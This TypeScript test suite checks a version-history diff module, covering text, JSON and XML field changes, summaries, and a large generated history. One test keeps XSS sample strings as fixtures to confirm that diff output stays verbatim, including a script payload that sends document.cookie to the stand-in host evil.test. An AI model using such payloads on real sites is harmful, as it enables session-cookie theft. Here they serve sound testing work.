import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import type { FieldDiff, TextPart, VersionDiff } from '../../src/core/audit';
import type { AssetVersion } from '../../src/core/model';
import {
  diffField,
  diffText,
  diffVersion,
  diffVersions,
  filterByUser,
  jsonChanges,
  MAX_WORD_DIFF_CHARS,
  summariseVersions,
  usersOf,
} from '../../src/core/versionDiff';
import { normaliseVersionHistory } from '../../src/vendors/orangelogic';

const FIXTURES = path.join(__dirname, '..', 'fixtures', 'history');
const load = (name: string) => normaliseVersionHistory(fs.readFileSync(path.join(FIXTURES, name), 'utf8'), name);
const field = (diffs: VersionDiff[], version: number, name: string): FieldDiff => {
  const found = diffs.find((d) => d.version === version)?.fields.find((f) => f.field === name);
  assert.ok(found, `v${version} ${name}`);
  return found;
};
/** The old text is the kept and removed parts; the new text the kept and added parts. */
const sides = (parts: TextPart[]) => ({
  old: parts
    .filter((p) => !p.added)
    .map((p) => p.value)
    .join(''),
  new: parts
    .filter((p) => !p.removed)
    .map((p) => p.value)
    .join(''),
});

describe('version diff: the same history in every shape the vendor may send', () => {
  for (const name of ['canonical.json', 'lowercase.json', 'no-wrapper.json', 'bare-array.json', 'history.xml']) {
    it(`${name}: normalised, then diffed per version and field`, () => {
      const diffs = diffVersions(load(name), { principalEmail: 'jane@acme.test' });
      assert.deepEqual(
        diffs.slice(0, 4).map((d) => [d.version, d.user, d.byPrincipal, d.fields.map((f) => `${f.field}:${f.kind}`)]),
        [
          [1, 'svc@acme.test', false, ['Title:set']],
          [2, 'jane@acme.test', true, ['Title:text', 'Caption:set']],
          [3, 'Raj@Acme.test', false, ['Caption:unset', 'Keywords:text']],
          [4, 'JANE@acme.test', true, []],
        ],
      );
      assert.equal(diffs[0].date, '2026-01-05T10:00:00Z');
      assert.deepEqual(field(diffs, 1, 'Title').parts, [{ value: 'Harbour at dawn', added: true }]);
      assert.deepEqual(field(diffs, 2, 'Title').parts, [{ value: 'Harbour at ' }, { value: 'dawn', removed: true }, { value: 'dusk', added: true }]);
      assert.deepEqual(field(diffs, 3, 'Caption').parts, [{ value: 'Boats in the harbour', removed: true }]);
      const keywords = field(diffs, 3, 'Keywords');
      assert.deepEqual(sides(keywords.parts!), { old: 'harbour, boats', new: 'harbour, small boats, dusk' });
      assert.deepEqual(
        keywords.parts!.filter((p) => p.added).map((p) => p.value.trim()),
        ['small', ', dusk'],
      );
      assert.ok(!keywords.parts!.some((p) => p.removed), 'nothing was removed from the keywords');
    });
  }

  it('XML entities are decoded before diffing', () => {
    const description = field(diffVersions(load('history.xml')), 5, 'Description');
    assert.equal(description.oldValue, '<b>Harbour</b> & boats');
    assert.deepEqual(description.parts, [{ value: '<b>Harbour</b> & ' }, { value: 'boats', removed: true }, { value: 'ships', added: true }]);
  });

  it('without a principal nothing is byPrincipal; filterByUser and usersOf ignore case', () => {
    const versions = load('canonical.json');
    const diffs = diffVersions(versions);
    assert.ok(diffs.every((d) => !d.byPrincipal));
    assert.deepEqual(
      filterByUser(diffs, 'Jane@ACME.test').map((d) => d.version),
      [2, 4],
    );
    assert.deepEqual(
      filterByUser(diffs, 'raj@acme.test').map((d) => d.version),
      [3],
    );
    assert.equal(filterByUser(diffs, '').length, 4);
    assert.equal(filterByUser(diffs, undefined).length, 4);
    assert.deepEqual(usersOf(versions), ['jane@acme.test', 'Raj@Acme.test', 'svc@acme.test']);
    assert.deepEqual(usersOf(diffs), usersOf(versions));
  });
});

describe('version diff: JSON values', () => {
  const diffs = diffVersions(load('json-values.json'));

  it('both sides JSON objects/arrays: structural changes with $ paths and JSON text values', () => {
    const metadata = field(diffs, 2, 'Metadata');
    assert.equal(metadata.kind, 'json');
    assert.equal(metadata.parts, undefined);
    assert.deepEqual(metadata.changes, [
      { path: '$.owner.name', kind: 'changed', oldValue: '"Jane"', newValue: '"Raj"' },
      { path: '$.owner.team', kind: 'added', newValue: '"Ops"' },
      { path: '$.tags[1]', kind: 'added', newValue: '"x"' },
    ]);
    assert.deepEqual(field(diffs, 2, 'Odd keys').changes, [
      { path: '$["a b"]', kind: 'changed', oldValue: '1', newValue: '2' },
      { path: '$.gone', kind: 'removed', oldValue: 'true' },
    ]);
  });

  it('values the vendor sent as JSON (not strings) are diffed structurally too', () => {
    const size = field(diffs, 3, 'Size');
    assert.equal(size.kind, 'json');
    assert.deepEqual(size.changes, [{ path: '$.width', kind: 'changed', oldValue: '100', newValue: '200' }]);
  });

  it('JSON on one side only, or text that merely looks like JSON: a text diff', () => {
    assert.equal(field(diffs, 4, 'Metadata').kind, 'text');
    const braces = field(diffs, 4, 'Braces');
    assert.equal(braces.kind, 'text');
    assert.deepEqual(braces.parts, [{ value: '{' }, { value: 'draft', removed: true }, { value: 'final', added: true }, { value: '}' }]);
  });

  it('array removal, type change at the root, and reformatting alone', () => {
    assert.deepEqual(field(diffs, 5, 'Ranks').changes, [{ path: '$[1]', kind: 'removed', oldValue: '2' }]);
    assert.deepEqual(field(diffs, 5, 'Shape').changes, [{ path: '$', kind: 'changed', oldValue: '{"a":1}', newValue: '[1]' }]);
    const formatting = field(diffs, 5, 'Formatting');
    assert.equal(formatting.kind, 'json');
    assert.deepEqual(formatting.changes, []);
  });

  it('jsonChanges: nested arrays of objects, head and tail kept, null and type changes', () => {
    assert.deepEqual(jsonChanges({ rows: [{ id: 1 }, { id: 2, v: 'a' }, { id: 3 }] }, { rows: [{ id: 1 }, { id: 2, v: 'b' }, { id: 3 }] }), [
      { path: '$.rows[1].v', kind: 'changed', oldValue: '"a"', newValue: '"b"' },
    ]);
    assert.deepEqual(jsonChanges([1, 2, 3, 4], [0, 1, 2, 3, 4]), [{ path: '$[0]', kind: 'added', newValue: '0' }]);
    assert.deepEqual(jsonChanges({ a: null }, { a: { b: 1 } }), [{ path: '$.a', kind: 'changed', oldValue: 'null', newValue: '{"b":1}' }]);
    assert.deepEqual(jsonChanges({ a: [1] }, { a: { 0: 1 } }), [{ path: '$.a', kind: 'changed', oldValue: '[1]', newValue: '{"0":1}' }]);
    assert.deepEqual(jsonChanges({ a: 1, b: 2 }, { b: 2, a: 1 }), []);
  });

  it('deep JSON does not overflow the stack', () => {
    const deep = (leaf: number, depth: number) => `${'{"a":'.repeat(depth)}${leaf}${'}'.repeat(depth)}`;
    const moderate = diffField('Deep', deep(1, 300), deep(2, 300));
    assert.equal(moderate.kind, 'json');
    assert.equal(moderate.changes!.length, 1);
    assert.ok(moderate.changes![0].path.startsWith('$.a.a.a'));
    // Deeper than JSON.stringify can go: still an answer (a text diff), never a crash.
    const extreme = diffField('Deep', deep(1, 20_000), deep(2, 20_000));
    assert.ok(extreme.kind === 'json' || extreme.kind === 'text');
    if (extreme.kind === 'text') assert.deepEqual(sides(extreme.parts!), { old: deep(1, 20_000), new: deep(2, 20_000) });
  });
});

describe('version diff: HTML and script payloads stay verbatim', () => {
  const diffs = diffVersions(load('script-html.json'));

  it('parts carry the exact text (escaping is the renderer’s job)', () => {
    assert.deepEqual(field(diffs, 1, 'Description').parts, [{ value: '<p>Hello</p><script>alert("x")</script>', added: true }]);
    const edited = field(diffs, 2, 'Description');
    assert.equal(edited.kind, 'text');
    assert.deepEqual(sides(edited.parts!), {
      old: '<p>Hello</p><script>alert("x")</script>',
      new: '<p>Hello <img src=x onerror="alert(1)"></p><script>alert("x")</script>',
    });
    assert.equal(
      edited
        .parts!.filter((p) => p.added)
        .map((p) => p.value)
        .join(''),
      ' <img src=x onerror="alert(1)">',
    );
    assert.ok(!edited.parts!.some((p) => p.removed));
    const title = field(diffs, 2, 'Title');
    assert.equal(title.kind, 'unset');
    assert.equal(title.parts![0].value, `"><script>document.location='http://evil.test/?c='+document.cookie</script>`);
  });
});

describe('version diff: text details', () => {
  it('word level: several changes, insertions, deletions, newlines and CRLF', () => {
    const cases: Array<[string, string]> = [
      ['the quick brown fox jumps over the lazy dog', 'the slow brown fox leaps over the lazy cat'],
      ['one two three', 'one three'],
      ['one three', 'one two three'],
      ['line one\nline two\r\nline three', 'line one\nline 2\r\nline three\n'],
      ['café crème brûlée', 'café crème brulee'],
      ['emoji 😀 here', 'emoji 😃 here'],
      ['a', 'b'],
      ['same', 'same'],
      ['', ''],
    ];
    for (const [a, b] of cases) assert.deepEqual(sides(diffText(a, b)), { old: a, new: b }, `${a} → ${b}`);
    assert.deepEqual(diffText('the quick brown fox jumps', 'the slow brown fox leaps'), [
      { value: 'the ' },
      { value: 'quick', removed: true },
      { value: 'slow', added: true },
      { value: ' brown fox ' },
      { value: 'jumps', removed: true },
      { value: 'leaps', added: true },
    ]);
    assert.deepEqual(diffText('emoji 😀 here', 'emoji 😃 here'), [
      { value: 'emoji ' },
      { value: '😀', removed: true },
      { value: '😃', added: true },
      { value: ' here' },
    ]);
    assert.deepEqual(diffText('same', 'same'), [{ value: 'same' }]);
    assert.deepEqual(diffField('F', 'same', 'same'), { field: 'F', kind: 'text', oldValue: 'same', newValue: 'same', parts: [{ value: 'same' }] });
  });

  it('a rewrite that shares no word is one removed and one added part', () => {
    assert.deepEqual(diffText('Harbour at dawn', 'Board deck cover'), [
      { value: 'Harbour at dawn', removed: true },
      { value: 'Board deck cover', added: true },
    ]);
  });

  it(`huge texts (> ${MAX_WORD_DIFF_CHARS} characters of difference) are not word-diffed`, () => {
    const words = (prefix: string) => Array.from({ length: 6000 }, (_, i) => `${prefix}${i % 97}`).join(' ');
    const a = `start ${words('a')} end`;
    const b = `start ${words('b')} end`;
    const parts = diffText(a, b);
    assert.deepEqual(
      parts.map((p) => (p.added ? 'added' : p.removed ? 'removed' : 'kept')),
      ['kept', 'removed', 'added', 'kept'],
    );
    assert.deepEqual(sides(parts), { old: a, new: b });
    // One word changed in a huge text: the common head and tail still show as kept.
    const c = `${a.slice(0, 30_000)} CHANGED ${a.slice(30_000)}`;
    const small = diffText(a, c);
    assert.equal(
      small
        .filter((p) => p.added)
        .map((p) => p.value)
        .join('')
        .trim(),
      'CHANGED',
    );
    assert.deepEqual(sides(small), { old: a, new: c });
  });
});

describe('version diff: what diffVersions remembers between versions changes nothing', () => {
  /** Versions of one history from each field's successive values (the old value is the previous new one unless given). */
  const history = (rows: Array<Array<[string, string] | [string, string, string]>>): AssetVersion[] => {
    const current = new Map<string, string>();
    return rows.map((changes, i) => ({
      version: i + 1,
      date: `2026-01-0${(i % 9) + 1}T00:00:00Z`,
      user: 'jane@acme.test',
      changes: changes.map(([name, value, old]) => {
        const oldValue = old ?? current.get(name) ?? '';
        current.set(name, value);
        return { field: name, oldValue, newValue: value };
      }),
    }));
  };
  /** Each field diffed on its own, without any memory of earlier versions. */
  const alone = (versions: AssetVersion[]) => versions.map((v) => v.changes.map((c) => diffField(c.field, c.oldValue, c.newValue)));

  it('JSON parsed once per text, shared heads and tails: the same diffs as diffField field by field', () => {
    const versions = history([
      [
        ['J', '{"a":1,"b":[1,2]}'],
        ['T', 'revision 1 of the caption'],
        ['W', ' [1, 2]'],
      ],
      [
        ['J', '{"a":2,"b":[1,2]}'],
        ['T', 'revision 2 of the caption'],
        ['W', '\n[1, 3] '],
      ],
      // Same text again, text that looks like JSON but is not, then JSON again.
      [
        ['J', '{"a":2,"b":[1,2]}'],
        ['T', 'revision 12 of the caption'],
        ['W', '[1, 3'],
      ],
      [
        ['J', '{not json}'],
        ['T', 'revision 13 of the caption'],
        ['W', '[1, 4]'],
      ],
      [
        ['J', '{"a":3}'],
        ['T', 'revision 13 of the captions'],
        ['W', 'plain'],
      ],
      // Old values that are not the previous new values (the memo must check, not assume).
      [
        ['J', '{"a":4}', '{"a":9}'],
        ['T', 'revision 1 of the caption', 'Revision 1 of the caption'],
        ['W', '[2]', '[1]'],
      ],
      // Heads and tails of the same length but other characters; what was added is removed next.
      [
        ['T', 'revisiom 7 of the caption'],
        ['U', 'alpha beta gamma'],
      ],
      [
        ['T', 'revisiom 8 of the captiom'],
        ['U', 'alpha delta gamma'],
      ],
      [
        ['T', 'revisiom 9 of the captiom'],
        ['U', 'alpha delta gamma'],
        ['U', 'alpha epsilon gamma', 'alpha delta gamma'],
      ],
      [
        ['T', ''],
        ['U', 'alpha delta gamma', 'alpha zeta gamma'],
        ['J', ''],
      ],
      [
        ['T', 'x'],
        ['J', '[]'],
      ],
      // Changes that move: the head or tail the field had before is not common any more, or grows.
      [
        ['S', 'a b c d e'],
        ['E', 'emoji 😀 here'],
      ],
      [
        ['S', 'a X c d e'],
        ['E', 'emoji 😃 here'],
      ],
      [
        ['S', 'a X c Y e'],
        ['E', 'emoji 😄 here!'],
      ],
      [
        ['S', 'Z X c Y e'],
        ['E', 'Emoji 😄 here!'],
      ],
      [
        ['S', 'Z X c Y e f'],
        ['E', 'Emoji 😄 there!'],
      ],
      [
        ['S', 'Z X c Y e g'],
        ['E', 'Emoji 😄 there?'],
      ],
      [
        ['S', 'Z X c Y e g'],
        ['E', 'Emoji 😄 there?'],
      ],
    ]);
    const diffs = diffVersions(versions);
    assert.deepEqual(
      diffs.map((d) => d.fields),
      alone(versions),
    );
    for (const d of diffs)
      for (const f of d.fields) if (f.parts) assert.deepEqual(sides(f.parts), { old: f.oldValue, new: f.newValue }, `v${d.version} ${f.field}`);
    assert.deepEqual(field(diffs, 2, 'W').changes, [{ path: '$[1]', kind: 'changed', oldValue: '2', newValue: '3' }]);
    assert.equal(field(diffs, 4, 'J').kind, 'text');
    assert.deepEqual(field(diffs, 6, 'J').changes, [{ path: '$.a', kind: 'changed', oldValue: '9', newValue: '4' }]);
    assert.deepEqual(field(diffs, 8, 'U').parts, [{ value: 'alpha ' }, { value: 'beta', removed: true }, { value: 'delta', added: true }, { value: ' gamma' }]);
    // An unchanged head and tail that stay the same from one version to the next are one object each (less to allocate and trace).
    const [v2, v3] = [field(diffs, 2, 'T').parts!, field(diffs, 3, 'T').parts!];
    assert.deepEqual(v3, [{ value: 'revision ' }, { value: '2', removed: true }, { value: '12', added: true }, { value: ' of the caption' }]);
    assert.equal(v3[0], v2[0]);
    assert.equal(v3[3], v2[3]);
    assert.deepEqual(diffs[8].fields[2].parts, [
      { value: 'alpha ' },
      { value: 'delta', removed: true },
      { value: 'epsilon', added: true },
      { value: ' gamma' },
    ]);
  });

  it('diffing the same history twice gives equal results, and the input is left as it was', () => {
    const versions = history([
      [
        ['J', '{"a":[1,{"b":2}]}'],
        ['T', 'one two'],
      ],
      [
        ['J', '{"a":[1,{"b":3}]}'],
        ['T', 'one three'],
      ],
      [['J', '{"a":[1,{"b":4}],"c":null}']],
    ]);
    const before = JSON.stringify(versions);
    const once = diffVersions(versions);
    assert.deepEqual(diffVersions(versions), once);
    assert.deepEqual(
      once.map((d) => d.fields),
      alone(versions),
    );
    assert.equal(JSON.stringify(versions), before);
  });
});

/** What summariseVersions must say of a history, read off diffVersions's answer (text and json are both "changed"). */
function summaryOf(diffs: VersionDiff[]) {
  return diffs.map(({ fields, ...version }) => ({
    ...version,
    fields: fields.map((f) => ({ field: f.field, kind: f.kind === 'set' || f.kind === 'unset' ? f.kind : 'changed' })),
  }));
}

describe('version diff: summaries for the first paint, one version’s diffs on request', () => {
  const names = ['canonical.json', 'history.xml', 'json-values.json', 'script-html.json'];

  for (const name of names) {
    it(`${name}: summariseVersions says per version who, when and which fields changed how, as diffVersions does`, () => {
      const versions = load(name);
      const diffs = diffVersions(versions, { principalEmail: 'jane@acme.test' });
      const summaries = summariseVersions(versions, { principalEmail: 'jane@acme.test' });
      assert.deepEqual(summaries, summaryOf(diffs));
      // No value travels in a summary: the first paint sends only names and kinds.
      for (const v of summaries) for (const f of v.fields) assert.deepEqual(Object.keys(f), ['field', 'kind']);
    });

    it(`${name}: diffVersion gives a version's diffs, the same as diffVersions gives for it`, () => {
      const versions = load(name);
      const diffs = diffVersions(versions, { principalEmail: 'jane@acme.test' });
      assert.ok(diffs.length > 0);
      for (const d of diffs) assert.deepEqual(diffVersion(versions, d.version, { principalEmail: 'jane@acme.test' }), d, `v${d.version}`);
    });
  }

  it('an unknown version is undefined (the panel says so), never a diff of another', () => {
    const versions = load('canonical.json');
    const known = new Set(versions.map((v) => v.version));
    for (const n of [0, -1, Math.max(...known) + 1, 2.5, Number.NaN]) assert.equal(diffVersion(versions, n), undefined, String(n));
    assert.equal(diffVersion([], 1), undefined);
    assert.deepEqual(summariseVersions([]), []);
  });

  it('the principal: byPrincipal as diffVersions marks it (case and spaces ignored), none without one', () => {
    const versions = load('canonical.json');
    const marked = summariseVersions(versions, { principalEmail: '  JANE@acme.test ' }).map((v) => v.byPrincipal);
    assert.deepEqual(
      marked,
      diffVersions(versions, { principalEmail: 'jane@acme.test' }).map((v) => v.byPrincipal),
    );
    assert.ok(marked.includes(true));
    assert.equal(
      summariseVersions(versions).some((v) => v.byPrincipal),
      false,
    );
    assert.equal(diffVersion(versions, versions[1].version, { principalEmail: 'jane@acme.test' })?.byPrincipal, true);
  });
});

describe('version diff: a generated 1,000-version × 50-field history', function () {
  this.timeout(120_000);
  let versions: AssetVersion[];
  let dir: string;

  before(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'behalf-history-'));
    const file = path.join(dir, 'large.json');
    execFileSync(process.execPath, [path.join(FIXTURES, 'generate.mjs'), file, '--versions', '1000', '--fields', '50']);
    versions = normaliseVersionHistory(fs.readFileSync(file, 'utf8'), 'A-large');
  });
  after(() => fs.rmSync(dir, { recursive: true, force: true }));

  it('is normalised whole and every field diff reproduces both values', () => {
    assert.equal(versions.length, 1000);
    const diffs = diffVersions(versions, { principalEmail: 'JANE@acme.test' });
    assert.equal(diffs.length, 1000);
    const kinds: Record<string, number> = {};
    for (const d of diffs) {
      assert.equal(d.fields.length, 50);
      for (const f of d.fields) {
        kinds[f.kind] = (kinds[f.kind] ?? 0) + 1;
        if (f.kind === 'json') assert.ok(f.changes!.length >= 1, `v${d.version} ${f.field}`);
        else assert.deepEqual(sides(f.parts!), { old: f.oldValue, new: f.newValue }, `v${d.version} ${f.field}`);
      }
    }
    assert.ok(kinds['text'] > 0 && kinds['json'] > 0 && kinds['set'] > 0 && kinds['unset'] > 0, JSON.stringify(kinds));
    // The same as each field diffed on its own (diffVersions reuses what it derived from the previous version).
    diffs.forEach((d, i) =>
      assert.deepEqual(
        d.fields,
        versions[i].changes.map((c) => diffField(c.field, c.oldValue, c.newValue)),
        `v${d.version}`,
      ),
    );
    // What the history panel gets instead: each version's summary (first paint), one version's diffs when opened.
    assert.deepEqual(summariseVersions(versions, { principalEmail: 'JANE@acme.test' }), summaryOf(diffs));
    for (const i of [0, 1, 2, 499, 998, 999]) assert.deepEqual(diffVersion(versions, versions[i].version, { principalEmail: 'JANE@acme.test' }), diffs[i]);
    // Users rotate through five spellings of four people; Jane's two spellings both count.
    assert.equal(diffs.filter((d) => d.byPrincipal).length, 400);
    assert.deepEqual(usersOf(versions), ['ana@acme.test', 'jane@acme.test', 'raj@acme.test', 'svc@acme.test']);
  });

  it('the generator is deterministic', () => {
    const again = execFileSync(process.execPath, [path.join(FIXTURES, 'generate.mjs'), '--versions', '3', '--fields', '4'], { encoding: 'utf8' });
    const once = execFileSync(process.execPath, [path.join(FIXTURES, 'generate.mjs'), '--versions', '3', '--fields', '4'], { encoding: 'utf8' });
    assert.equal(again, once);
    assert.equal(normaliseVersionHistory(once, 'x').length, 3);
  });
});
